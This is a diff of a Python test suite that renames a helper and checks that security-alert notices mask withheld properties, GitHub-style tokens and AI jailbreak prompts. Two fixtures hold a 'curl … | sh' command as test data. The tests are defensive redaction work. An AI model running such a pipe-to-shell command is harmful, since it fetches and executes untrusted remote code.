@@ -29,7 +29,7 @@ def noticed(**alert: Any) -> Notice:
     return notice_for(signal, evidence_of(signal, CATALOGUE), decide(signal, book, NOW), book, "key", 1)
 
 
-def told(notice: Notice, *withheld: str, has_ai_whole: bool = True) -> str:
+def texts_sent(notice: Notice, *withheld: str, has_ai_whole: bool = True) -> str:
     """All that is told of a notice."""
     return "\n".join(texts_in(disclosed(notice, frozenset(map(name_of, withheld)), has_ai_whole=has_ai_whole)))
 
@@ -58,14 +58,14 @@ def told(notice: Notice, *withheld: str, has_ai_whole: bool = True) -> str:
 )
 def test_what_is_withheld_is_told_in_no_other_form(alert: dict[str, Any]) -> None:
     """Placeholders cut at 300 characters, evidence at 4,000, and JSON becomes several items: none of that is the value."""
-    assert CANARY not in told(noticed(**alert), NAME)
+    assert CANARY not in texts_sent(noticed(**alert), NAME)
 
 
 def test_a_group_that_waited_withholds_what_its_text_quotes() -> None:
     """What waits for room has lost its properties, and so whoever withholds one no longer knows what it said."""
     whole = noticed(Description="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
-    assert CANARY not in told(whole, NAME)
-    assert CANARY not in told(_bounded(whole), NAME)
+    assert CANARY not in texts_sent(whole, NAME)
+    assert CANARY not in texts_sent(_bounded(whole), NAME)
 
 
 @pytest.mark.xfail(strict=True, reason="a member's name in the state does not say which properties its title quotes")
@@ -73,7 +73,7 @@ def test_a_group_withholds_what_the_title_of_another_member_quotes() -> None:
     """A member is named by its title, in which Defender's placeholders are filled in already."""
     member = noticed(AlertDisplayName="Ran %{Suspicious Command}", ExtendedProperties={NAME: f"curl {CANARY} | sh"})
     head = a_notice(group=a_group(named=(named_member(member),)))
-    assert CANARY not in told(head, NAME)
+    assert CANARY not in texts_sent(head, NAME)
 
 
 TOKEN = "ghp_" + "A" * 36
@@ -82,13 +82,13 @@ TOKEN = "ghp_" + "A" * 36
 @pytest.mark.parametrize("length", [964, 980, 990])
 def test_a_credential_is_masked_before_a_text_is_cut_to_wait(length: int) -> None:
     """Half a token is no form that is known, so it is told."""
-    assert "ghp_A" not in told(_bounded(a_notice(description=f"{'d' * (length - 1)} {TOKEN}")))
+    assert "ghp_A" not in texts_sent(_bounded(a_notice(description=f"{'d' * (length - 1)} {TOKEN}")))
 
 
 def test_a_credential_is_masked_before_a_placeholder_is_cut() -> None:
     """What is filled in is cut at 300 characters."""
     notice = noticed(Description="Ran %{Note}", ExtendedProperties={"Note": f"{'x' * 279} {TOKEN}"})
-    assert "ghp_A" not in told(notice)
+    assert "ghp_A" not in texts_sent(notice)
 
 
 @pytest.mark.parametrize(
@@ -102,7 +102,7 @@ def test_a_credential_is_masked_before_a_placeholder_is_cut() -> None:
 )
 def test_an_outline_quotes_no_property(alert: dict[str, Any]) -> None:
     """A prompt may stand wherever the message, and not Defender's own table, says it."""
-    assert CANARY not in told(noticed(AlertType="AI.Azure_Jailbreak", **alert), has_ai_whole=False)
+    assert CANARY not in texts_sent(noticed(AlertType="AI.Azure_Jailbreak", **alert), has_ai_whole=False)
 
 
 @pytest.mark.parametrize(
@@ -116,7 +116,7 @@ def test_an_outline_quotes_no_property(alert: dict[str, Any]) -> None:
 def test_an_incident_is_about_ai_wherever_it_names_that(alert: dict[str, Any]) -> None:
     """An incident has no plan and type of its own; what it is made of stands in its texts and its evidence."""
     incident = noticed(AlertType="SecurityIncident", IsIncident=True, **alert)
-    assert CANARY not in told(incident, has_ai_whole=False)
+    assert CANARY not in texts_sent(incident, has_ai_whole=False)
 
 
 def test_a_group_outlines_a_member_about_ai() -> None:
@@ -124,4 +124,4 @@ def test_a_group_outlines_a_member_about_ai() -> None:
     prompt = {"AlertDisplayName": "Jailbreak: %{Prompt}", "ExtendedProperties": {"Prompt": CANARY}}
     member = noticed(AlertType="AI.Azure_Jailbreak", **prompt)
     head = replace(a_notice(), group=a_group(named=(named_member(member),)))
-    assert CANARY not in told(head, has_ai_whole=False)
+    assert CANARY not in texts_sent(head, has_ai_whole=False)
